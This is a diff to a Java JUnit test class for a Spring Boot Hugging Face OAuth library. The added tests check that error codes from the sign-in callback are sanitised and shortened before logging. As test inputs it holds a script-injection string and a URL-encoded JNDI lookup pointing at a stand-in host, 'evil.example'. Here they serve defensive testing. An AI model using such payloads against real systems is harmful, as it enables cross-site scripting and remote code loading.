@@ -1,6 +1,7 @@
 package io.github.hfoauth.servlet;
 
 import java.net.http.HttpResponse;
+import java.util.List;
 import java.util.Map;
 
 import io.github.hfoauth.HfOAuth2User;
@@ -8,11 +9,14 @@ import io.github.hfoauth.fake.FakeHuggingFace;
 import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.Nested;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.extension.ExtendWith;
 
 import org.springframework.beans.factory.annotation.Value;
 import org.springframework.boot.autoconfigure.SpringBootApplication;
 import org.springframework.boot.test.context.SpringBootTest;
 import org.springframework.boot.test.context.SpringBootTest.WebEnvironment;
+import org.springframework.boot.test.system.CapturedOutput;
+import org.springframework.boot.test.system.OutputCaptureExtension;
 import org.springframework.security.core.annotation.AuthenticationPrincipal;
 import org.springframework.test.context.DynamicPropertyRegistry;
 import org.springframework.test.context.DynamicPropertySource;
@@ -25,6 +29,7 @@ import static org.assertj.core.api.Assertions.assertThat;
  * The chain the auto-configuration defines when the application has none: every page needs a
  * sign-in, which goes to Hugging Face (or signs in the mock user) and returns to the page.
  */
+@ExtendWith(OutputCaptureExtension.class)
 class DefaultChainLoginTests {
 
 	static final FakeHuggingFace fake = FakeHuggingFace.start();
@@ -104,12 +109,27 @@ class DefaultChainLoginTests {
 				.get("state");
 			String hostile = "/login/oauth2/code/huggingface?error=%22%7D%3Cscript%3E%0Aevil&state=" + state;
 			HttpResponse<String> json = browser.getJson(app(hostile));
-			// Quote and newline are dropped, so the code stays one JSON string.
+			// Only the shape of a real error code is kept, so the code stays one JSON string.
 			assertThat(json.body()).isEqualTo(
-					"{\"error\":\"}<script>evil\",\"message\":\"Signing in with Hugging Face did not work.\"}");
+					"{\"error\":\"scriptevil\",\"message\":\"Signing in with Hugging Face did not work.\"}");
 			browser.get(app("/oauth2/authorization/huggingface"));
 			HttpResponse<String> html = browser.get(app(hostile));
 			assertThat(html.body()).doesNotContain("<script>", "evil");
+		}
+
+		@Test
+		void errorCodesAreLoggedShortAndInert(CapturedOutput output) {
+			TestBrowser browser = new TestBrowser(this.port);
+			String longCode = "x".repeat(1500);
+			for (String code : List.of("%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", longCode)) {
+				String state = FakeHuggingFace
+					.queryParams(TestBrowser.location(browser.get(app("/oauth2/authorization/huggingface"))))
+					.get("state");
+				browser.get(app("/login/oauth2/code/huggingface?error=" + code + "&state=" + state));
+			}
+			assertThat(output).doesNotContain("${jndi", "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx")
+				.contains("Sign in with Hugging Face failed: jndildapevil.examplea",
+						"Sign in with Hugging Face failed: " + "x".repeat(64));
 		}
 
 		private String app(String path) {
